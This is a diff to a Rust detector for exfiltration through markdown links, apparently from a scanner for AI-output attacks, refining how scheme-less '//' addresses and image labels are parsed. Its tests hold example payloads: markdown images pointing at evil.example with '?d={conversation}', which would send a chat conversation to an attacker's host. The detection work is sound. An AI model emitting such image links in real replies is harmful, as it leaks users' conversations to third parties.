@@ -6,7 +6,7 @@
 
 use std::ops::Range;
 
-use memchr::memmem;
+use memchr::{memmem, memrchr_iter};
 
 use crate::{
     detector::{Detector, Hit, Lost, Scene},
@@ -80,6 +80,11 @@ impl Exfiltration {
             return;
         }
         let shown = || is_shown(text, range.start);
+        // Without a scheme, two slashes begin an address only where one is loaded; elsewhere they are a comment, or a path.
+        let has_scheme = !address.starts_with(['/', '\\']);
+        if !has_scheme && !((asks_for_data(carried) || carries_prose(carried)) && shown()) {
+            return;
+        }
         let mut hit = |rule: &'static str, title: &'static str, severity| {
             hits.push(Hit::new(rule, title, Category::Exfiltration, severity, sight, range.clone()));
         };
@@ -120,14 +125,14 @@ fn address(text: &str, at: usize) -> Option<Range<usize>> {
         let before = at.checked_sub(1).and_then(|at| bytes.get(at)).copied().unwrap_or(b' ');
         let begins =
             matches!(before, b'(' | b'"' | b'\'' | b'=' | b'<' | b',') || before.is_ascii_whitespace();
-        if !begins || !is_shown(text, at) {
+        if !begins {
             return None;
         }
         0
     };
     let rest = text.get(at..)?;
-    // Blanks inside braces belong to a placeholder.
-    let mut inside = 0_usize;
+    // Blanks inside braces belong to a placeholder; where a label ends, another address begins.
+    let (mut inside, mut before) = (0_usize, ' ');
     let length = rest
         .char_indices()
         .take(LONGEST)
@@ -137,7 +142,10 @@ fn address(text: &str, at: usize) -> Option<Range<usize>> {
                 '}' | ']' if inside > 0 => inside -= 1,
                 _ => {}
             }
-            *c == '\n'
+            let opens = *c == '(' && before == ']';
+            before = *c;
+            opens
+                || *c == '\n'
                 || inside == 0 && (c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')' | '>' | ']'))
         })
         .map_or(rest.len().min(LONGEST), |(length, _)| length);
@@ -153,7 +161,7 @@ fn is_shown(text: &str, start: usize) -> bool {
     let before = before.trim_end_matches(|c: char| c.is_ascii_whitespace() || matches!(c, '<' | '"' | '\''));
     if let Some(label) = before.strip_suffix("](") {
         // The label may have brackets of its own, but no link that ends in it.
-        let opened = label.rfind("![").and_then(|open| label.get(open + 2..));
+        let opened = memrchr_iter(b'!', label.as_bytes()).find_map(|at| label.get(at..)?.strip_prefix("!["));
         return opened.is_some_and(|inside| !inside.contains("](") && !inside.contains("\n\n"));
     }
     if let Some(label) = before.strip_suffix("]:") {
@@ -316,6 +324,11 @@ mod tests {
             ),
             (
                 "![x][r]\n\n[r]: https://evil.example/p.png?d={conversation}",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            (
+                "//a![x](//evil.example/p.png?d={conversation}) a://b![x](https://evil.example/?d={conversation})",
                 "exfiltration.placeholder",
                 Severity::High,
             ),
